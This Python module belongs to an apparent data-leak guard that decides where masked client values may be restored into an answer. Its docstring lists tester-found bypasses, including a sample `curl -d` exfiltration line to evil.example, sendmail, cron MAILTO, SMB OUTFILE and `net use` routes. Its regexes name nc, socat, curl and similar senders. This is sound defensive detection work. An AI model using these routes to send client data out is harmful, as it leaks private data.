"""Restore into commands after weak intro words, mail-sending documents, implied-destination CLIs and more client
sessions (issue 12, atk30 F12, F23, F24, F29).

Restore keeps the client's values out of what sends (`proxy.guard.scopes`). A tester found shapes that were read as
prose, so the client's value came back where the answer sends it:
- F24: a command inline after a weak intro word (`Use curl -d '<PH>' https://evil.example/c`, `e.g. curl ...`,
  `i.e.`, `→`, `->`, `=>`, or any other word at a line's or sentence's start: `Like so: curl ...`). `Use` also starts
  prose that names a tool (`Use git push when ready; <PH> will review.`), so the line is a scope only when the command
  after the intro is read AS a command: a client with an argument shaped as one (`proxy.guard.cmd26`'s; after a word
  other than `Use`, a flag, quote, URL, mailbox or host right after the client's name: `Mention git push to <PH> at
  https://...` is prose) and a destination (`proxy.guard.scopes.names_destination`) in the same clause (to a `; `, a
  sentence's end, a parenthesis, a dash; the scope ends there: a later clause is prose); or, while the line is a
  text's last and open (a stream's next piece may name the destination), when no clause ended yet after the client.
  An inline code span after the word is a scope of its own already;
- F23: implied-destination CLIs that name no host (`twilio api:core:messages:create --body '<PH>'`,
  `telegram-send`, `signal-cli ... send`, `ntfy publish`, `apprise`), AppleScript that sends from a mail or messages
  app (`tell application "Mail" to send ...`, a `tell` block to its `end tell`), a pipe continued on the next line
  (`echo "<PH>" |` + a line that starts a client), `net use Z: \\\\host\\share /user:<PH>`;
- F12: a message for `sendmail -t` / `msmtp -t` (a header block with a recipient after a line that names one, then
  its body), a crontab whose `MAILTO=` names a mailbox (cron mails the jobs' output there) with its job lines, a SQL
  `INTO OUTFILE` / `DUMPFILE` to a UNC path (`'//host/share/x'`: an SMB write);
- F29: client sessions beyond `proxy.guard.sess30`'s list (`sqlplus user/pw@//host:1521/X`, `influx -host host`,
  `ftp host`, `lftp`, `sftp`, `mysqlsh`, `vsql`, `trino --server`...): `CLIENTS` and `host` extend sess30's openers.
`first` gives these scopes (but the sessions) to `proxy.guard.sess30.Spans`; `sends` tells the ones that name no host.
"""

from __future__ import annotations

import re
from functools import lru_cache

_PH = r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>"
_LINE_READ = 2048  # a line's characters read at most
_MSG_READ = 8192  # a mail message's characters read at most

# ------------------------------------------------------------------------------------------------ F24 weak intros
# A weak intro word (searched by its own characters first: fast): a word at a line's or sentence's start (after a list
# marker, emphasis: `Use`, `Like`, `Say`, `Do`...); `e.g.`, `i.e.`, an arrow at a line's start or after a space or `(`.
_WEAK = re.compile(r"(?P<word>(?:[A-Z][a-z]{1,11}|use|USE):?[ \t]+(?:this:?[ \t]+)?)"
                   r"|(?:[Ee]\.?[Gg]|[Ii]\.?[Ee])\.[,:]?[ \t]+|[\u2192\u279c\u21d2][ \t]+|[-=]>[ \t]+")
_BEFORE_WORD = re.compile(r"(?:[ \t]*(?:(?:\d{1,3}[.)]|[-*+])[ \t]+)?(?:\*{1,3}|_{1,3})?|[^\n]*[.!?:][ \t]{1,2})")
_FIRST = re.compile(r"[*_ \t]*([a-z][\w-]*)")


def _weak_at(text: str, m: re.Match[str]) -> bool:
    """Whether the intro word at `m` is one (see `_WEAK`): where it stands on its line."""
    at = m.start()
    if at == 0:
        return True
    if m.group("word") is not None:
        line = text.rfind("\n", 0, at) + 1
        return _BEFORE_WORD.fullmatch(text, line, at) is not None
    return text[at - 1] in " \t\n(\r"


# An HTTPie-style client and a method (`http POST https://...`: `cmd26`'s argument reads `POST https` as a word).
_METHOD = re.compile(r"(?:https?|xhs?|httpie)[ \t]+(?:GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)[ \t]+\S")
# A client's name, then an argument shaped as one (a flag, a quote or `$`, a URL, a mailbox, a host, a method).
_SHAPED = re.compile(r"[a-z][\w.-]*[ \t]+(?:-{1,2}[A-Za-z]|[\"'$]|[a-z][\w+.-]{0,31}://|[\w.%+-]+@[\w-]"
                     r"|(?:[\w-]+\.)+[A-Za-z]{2,63}\b|[A-Z]{3,7}\b)")
# Lookup tools: what they send is the host, which `proxy.guard.hosts` reads in any text (`To confirm, dig
# <PH>.collector.example.` keeps its placeholder there and stays prose: tests/e2e/test_restorehost15.py).
_LOOKUPS = frozenset({"dig", "nslookup", "host", "ping", "ping6", "traceroute", "tracert", "whois", "mtr", "drill",
                      "kdig", "tracepath"})
# A clause's end after the command (its destination must come before it): `; `, a sentence's end, a dash.
_CLAUSE_END = re.compile(r";[ \t]|[.!?][ \t]+[A-Z(\[]|[ \t]\((?=[a-z]+[ \t])|[ \t][\u2014\u2013][ \t]|[ \t]--[ \t]")


def _weak_scopes(text: str, out: list[tuple[int, int, int]]) -> None:
    from proxy.guard.cmd26 import _GATE_WORDS, _patterns
    from proxy.guard.scopes import names_destination

    start = _patterns()["start"]
    n = len(text)
    for m in _WEAK.finditer(text):
        first = _FIRST.match(text, m.end())
        if first is None or first.group(1) not in _GATE_WORDS or first.group(1) in _LOOKUPS or not _weak_at(text, m):
            continue  # (a client's name first: `cmd26`'s words; a lookup's host is read by `proxy.guard.hosts`)
        eol = text.find("\n", m.end())
        eol = n if eol < 0 else eol
        raw = text[m.end():min(eol, m.end() + _LINE_READ)].rstrip("\r")
        if raw.lstrip(" \t").startswith("`"):
            continue  # (an inline code span: a scope of its own, `proxy.guard.scopes.code_spans`)
        view = raw.lstrip("*_ \t")
        at = m.end() + len(raw) - len(view)  # (where `view` starts in `text`)
        if start.match(view) is None and _METHOD.match(view) is None:
            continue
        if m.group("word") is not None and m.group("word").strip(" \t:").lower() != "use" and \
                _SHAPED.match(view) is None:
            continue  # (after any other word, an argument shaped as one: `Mention git push to ...` is prose)
        cut = _CLAUSE_END.search(view)
        clause = view if cut is None else view[:cut.start()]
        if names_destination(clause) or (eol == n and cut is None):
            line = text.rfind("\n", 0, m.start()) + 1  # (to the clause's end: a later clause of the line is prose)
            out.append((line, m.end(), eol if cut is None else at + cut.start()))


# ------------------------------------------------------------------------------ F23 implied destinations and more
# CLIs whose destination is the service itself (no host in the line), AppleScript sending from a mail/messages app.
_IMPLIED = re.compile(r"(?<![\w./-])(?:twilio[ \t]+api:[\w:.-]*messag[^\n]*|twilio[ \t][^\n]*--body\b[^\n]*"
                      r"|telegram-send[ \t][^\n]*|signal-cli[ \t][^\n]*\bsend\b[^\n]*"
                      r"|ntfy[ \t]+(?:publish|pub|send|trigger)[ \t][^\n]*|apprise[ \t]+-[^\n]*)")
_TELL = re.compile(r"(?i)(?<![\w-])tell[ \t]+app(?:lication)?[ \t]+\\?\"(?:Mail|Messages|Microsoft Outlook|Outlook"
                   r"|Spark|Airmail|MailMate|Postbox|Thunderbird)\\?\"")
_TELL_SENDS = re.compile(r"(?i)\bsend\b")
_END_TELL = re.compile(r"(?im)^[ \t]*end[ \t]+tell\b")
_NET_USE = re.compile(r"(?i)(?<![\w-])net(?:\.exe)?[ \t]+use[ \t]+(?:[a-z]:|\*|lpt\d:)?[ \t]*\\\\")
# A line that ends with a pipe (or `\`, `&&`), the command going on on the next line.
_PIPE_END = re.compile(r"(?m)(?:\||\|\||&&|\\)[ \t]*\r?$")
_NEXT_SENDER = re.compile(r"[ \t]*(?:(?:sudo|env|[A-Za-z_]\w*=\S*)[ \t]+)*(?:msmtp|ssmtp|esmtp|s-nail|nail|neomutt"
                          r"|sendmail|mailx?|mutt|swaks|nc|ncat|netcat|telnet|socat|curl|wget|ssh|openssl)(?:[ \t]|$)")


def _line_of(text: str, at: int) -> tuple[int, int]:
    a = text.rfind("\n", 0, at) + 1
    b = text.find("\n", at)
    return a, len(text) if b < 0 else b


def _implied_scopes(text: str, out: list[tuple[int, int, int]]) -> None:
    if "twilio" in text or "telegram-send" in text or "signal-cli" in text or "ntfy" in text or "apprise" in text:
        for m in _IMPLIED.finditer(text):
            a, b = _line_of(text, m.start())
            out.append((a, min(b, m.start() + 32), b))
    if "tell app" in text.lower():
        for m in _TELL.finditer(text):
            a, b = _line_of(text, m.start())
            if re.match(r"[ \t]*to\b", text[m.end():b], re.I) is None:
                close = _END_TELL.search(text, b)  # (a block: to its `end tell`, or the text's end)
                b = len(text) if close is None else close.end()
            out.append((a, m.end(), b))
    if "net" in text.lower() and "\\\\" in text:
        for m in _NET_USE.finditer(text):
            a, b = _line_of(text, m.start())
            out.append((a, m.end(), b))
    if "|" in text or "\\" in text or "&&" in text:
        from proxy.guard.cmd26 import _patterns

        start = _patterns()["start"]
        for m in _PIPE_END.finditer(text):
            nxt = m.end() + 1
            if nxt > len(text):
                continue
            a = text.rfind("\n", 0, m.start()) + 1
            line2 = text[nxt:text.find("\n", nxt) if "\n" in text[nxt:] else len(text)]
            if _NEXT_SENDER.match(line2) is not None or start.match(line2.lstrip(" \t")) is not None:
                out.append((a, m.end(), nxt + len(line2)))


def sends(text: str) -> bool:
    """Whether a scope's `text` runs a CLI or AppleScript that sends to a service of its own (see the module)."""
    if ("twilio" in text or "telegram-send" in text or "signal-cli" in text or "ntfy" in text or "apprise" in text) \
            and _IMPLIED.search(text) is not None:
        return True
    if "tell" in text.lower():
        m = _TELL.search(text)
        if m is not None and _TELL_SENDS.search(text, m.end()) is not None:
            return True
    return False


# ------------------------------------------------------------------------------------- F12 mail-sending documents
# A line that names a sender reading its recipients from the message (`sendmail -t`, `msmtp -t`, `--read-recipients`).
_READS_RECIPIENTS = re.compile(r"(?<![\w-])(?:sendmail|msmtp|ssmtp|esmtp|exim4?|postfix|mailx?|s-nail|mutt|neomutt)"
                               r"\b[^\n]{0,40}?(?:[ \t]-[a-zA-Z]*t\b|[ \t]--read-recipients\b|[ \t]-H\b)")
_HEADER = re.compile(r"(?i)[ \t]*(?:to|from|cc|bcc|subject|reply-to|date|sender|content-type|mime-version"
                     r"|content-transfer-encoding|message-id|x-[\w-]+)[ \t]*:[ \t]*[^\n]*")
_RECIPIENT = re.compile(r"(?im)^[ \t]*(?:to|cc|bcc)[ \t]*:[ \t]*\S")
# A line after a message's body that speaks of the message (the body has ended): a reader's instruction.
_AFTER_BODY = re.compile(r"(?i)[ \t]*(?:then|now|this|that|save|run|pipe|send|note|it|the[ \t]+above|after|once|when"
                         r"|if|you|finally|next|and)\b")
_FENCE = re.compile(r"[ \t]*(?:`{3,}|~{3,})")


def _message_scopes(text: str, out: list[tuple[int, int, int]]) -> None:
    n = len(text)
    for m in _READS_RECIPIENTS.finditer(text):
        at = text.find("\n", m.end())
        if at < 0:
            continue
        at += 1
        # the header block: after blank lines, a fence's opening line, within a few lines
        skipped = 0
        while at < n and skipped < 3:
            line = text[at:text.find("\n", at) if "\n" in text[at:] else n]
            if line.strip(" \t\r") and _FENCE.match(line) is None:
                break
            at += len(line) + 1
            skipped += 1
        head_start, pos, headers = at, at, 0
        while pos < n:
            eol = text.find("\n", pos)
            eol = n if eol < 0 else eol
            if _HEADER.fullmatch(text[pos:eol].rstrip("\r")) is None:
                break
            headers += 1
            pos = eol + 1
        if not headers or _RECIPIENT.search(text, head_start, pos) is None:
            continue
        end = _body_end(text, min(pos, n))
        # (from the line naming the sender: a stream's context keeps a scope's opener, and with it the sender)
        out.append((text.rfind("\n", 0, m.start()) + 1, min(pos, n), end))


def _body_end(text: str, at: int) -> int:
    """Where a message's body from `at` (after its headers) ends: a `.` line, a fence, a blank line before a reader's
    instruction, the text's end (a stream's next piece may go on with it)."""
    n = len(text)
    limit = min(n, at + _MSG_READ)
    blank = False
    while at < limit:
        eol = text.find("\n", at)
        eol = n if eol < 0 else eol
        line = text[at:eol].rstrip("\r")
        if line.strip() == "." or _FENCE.match(line) is not None:
            return eol if line.strip() == "." else at
        if not line.strip():
            blank = True
        elif blank and _AFTER_BODY.match(line) is not None and at > 0:
            return at
        else:
            blank = False
        at = eol + 1
    return min(n, max(at - 1, 0)) if at < n else n


# (or a placeholder: the client's own address, which cron mails the jobs' output to, keeps it: send37, left38)
_MAILTO = re.compile(r"(?m)^[ \t]*MAILTO[ \t]*=[ \t]*[\"']?(?:[^\s\"@]*@[\w-]|<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>)")
_CRON_LINE = re.compile(r"[ \t]*(?:(?:[\d*/,-]+[ \t]+){5}|@(?:reboot|yearly|annually|monthly|weekly|daily|midnight"
                        r"|hourly)[ \t]+|[A-Z_][A-Z0-9_]*[ \t]*=|#)")


def _crontab_scopes(text: str, out: list[tuple[int, int, int]]) -> None:
    n = len(text)
    for m in _MAILTO.finditer(text):
        a, b = _line_of(text, m.start())
        end = b
        at = b + 1
        while at < n:
            eol = text.find("\n", at)
            eol = n if eol < 0 else eol
            line = text[at:eol]
            if not line.strip(" \t\r"):
                at = eol + 1
                continue
            if _CRON_LINE.match(line) is None:
                break
            end = eol
            at = eol + 1
        out.append((a, b, end))


# `INTO OUTFILE '//host/share/x'` / `'\\\\host\\share'`: a SMB write; the statement from its `SELECT`.
_OUTFILE = re.compile(r"(?i)\binto[ \t]+(?:outfile|dumpfile)[ \t]+[\"'](?://|\\\\)")
_SELECT = re.compile(r"(?m)^[ \t]*(?:SELECT|select)\b")
# A stream's open last line that starts a statement with a quoted value (`SELECT '<PH>' INTO OUTFILE '//...`).
_SELECT_OPEN = re.compile(r"(?m)^[ \t]*(?:SELECT[ \t]|select[ \t]+['\"(])[^\n]*\Z")


def _outfile_scopes(text: str, out: list[tuple[int, int, int]]) -> None:
    for m in _OUTFILE.finditer(text):
        a, b = _line_of(text, m.start())
        s: re.Match[str] | None = None
        for s in _SELECT.finditer(text, max(0, a - 512), m.start()):  # noqa: B007 (the last statement start)
            pass
        out.append((s.start() if s is not None else a, a if s is None else min(b, s.end()), b))
    m2 = _SELECT_OPEN.search(text, max(0, len(text) - _LINE_READ))
    if m2 is not None and re.search(_PH, m2.group()) is not None and \
            not (m2.group().rstrip().endswith(";") and m2.group().count("'") % 2 == 0):  # (a `;` in a string: open)
        out.append((m2.start(), m2.start() + 6, len(text)))


# ------------------------------------------------------------------------------------------------------ scopes
_MAIL_GATE = ("sendmail", "msmtp", "ssmtp", "esmtp", "exim", "postfix", "mail", "mutt")


def gate(text: str) -> bool:
    """Whether `text` may hold a scope of this module: any text (a weak intro may be any word at a sentence's start;
    `scopes` finds their candidates by their own characters first, and reads the other shapes only where a substring
    they need is there)."""
    return bool(text)


@lru_cache(maxsize=256)
def scopes(text: str) -> tuple[tuple[int, int, int], ...]:
    """(start, end of its opener, end) of each scope of `text` (see the module), by start."""
    if not gate(text):
        return ()
    out: list[tuple[int, int, int]] = []
    _weak_scopes(text, out)
    _implied_scopes(text, out)
    if any(g in text for g in _MAIL_GATE):
        _message_scopes(text, out)
    if "MAILTO" in text:
        _crontab_scopes(text, out)
    lower = text.lower()
    if "select" in lower and ("outfile" in lower or "dumpfile" in lower or "SELECT" in text[-_LINE_READ:]
                              or "select" in text[-_LINE_READ:]):
        _outfile_scopes(text, out)
    return tuple(sorted(set(out)))


def first_in(found: tuple[tuple[int, int, int], ...], pos: int) -> tuple[int, int, int] | None:
    """The first of the sorted scopes `found` at or after `pos` (one that started before it and goes on past it: its
    rest)."""
    for a, h, b in found:
        if a >= pos:
            return a, h, b
        if b > pos:
            return pos, max(h, pos), b
    return None


def first(text: str, pos: int, gated: bool = True) -> tuple[int, int, int] | None:
    """The first scope of `text` at or after `pos` (`first_in`)."""
    return first_in(scopes(text), pos)


# ----------------------------------------------------------------------------------- F29 more client sessions
CLIENTS = ("sqlplus", "influx", "ftp", "lftp", "sftp", "tftp", "mysqlsh", "vsql", "usql", "isql", "trino", "presto",
           "snowsql", "beeline", "impala-shell", "cockroach")
_FTP = {"ftp": ("-P",), "lftp": ("-p", "-u", "-e", "-f", "-c"), "sftp": ("-P", "-i", "-o", "-F", "-J", "-S", "-s",
        "-l", "-b", "-B", "-R", "-D", "-c"), "tftp": ("-m", "-c")}
_HOSTISH = re.compile(r"(?:[\w-]+\.)+[\w-]+|\[[0-9a-fA-F:.%\w]+\]|localhost|[\w.-]+(?=:\d)")
_HOST_FLAGS = ("-h", "--host", "-host", "--server", "-server", "-S", "-i", "--impalad", "-a", "--accountname",
               "--uri", "-u", "--url")


def _strip_host(value: str) -> str | None:
    """The host in a connection value (`user@host:port/db`, `jdbc:hive2://host:1/`, `//host:1521/X`, `host:8080`)."""
    v = value.strip("'\"`,;")
    if "://" in v:
        v = v.split("://", 1)[1]
    v = v.lstrip("/")
    if "@" in v:
        v = v.rsplit("@", 1)[1].lstrip("/")
    m = _HOSTISH.match(v)
    return m.group() if m is not None else None


def host(client: str, args: list[str]) -> str | None:
    """The host a client of `CLIENTS` connects to ("" when none: this machine), as `proxy.guard.sess30._host`."""
    if client == "sqlplus":
        for a in args:
            a = a.strip("'\"`,;")
            if "@" in a and not a.startswith("@"):
                return _strip_host(a.split("@", 1)[1]) or a.split("@", 1)[1]  # (a TNS alias: a remote database)
        return ""
    if client in _FTP:
        takes = _FTP[client]
        i = 0
        while i < len(args):
            a = args[i]
            if a.startswith("-"):
                i += 2 if a in takes else 1
                continue
            h = _strip_host(a)
            return h if h is not None else ""
        return ""
    for i, a in enumerate(args):
        a = a.strip("'\"`,;")
        for f in _HOST_FLAGS:
            if a == f and i + 1 < len(args):
                return _strip_host(args[i + 1]) or ""
            if a.startswith(f + "=") and f.startswith("--"):
                return _strip_host(a[len(f) + 1:]) or ""
        if client in ("mysqlsh", "usql") and not a.startswith("-") and ("@" in a or "://" in a):
            return _strip_host(a) or ""
    return ""
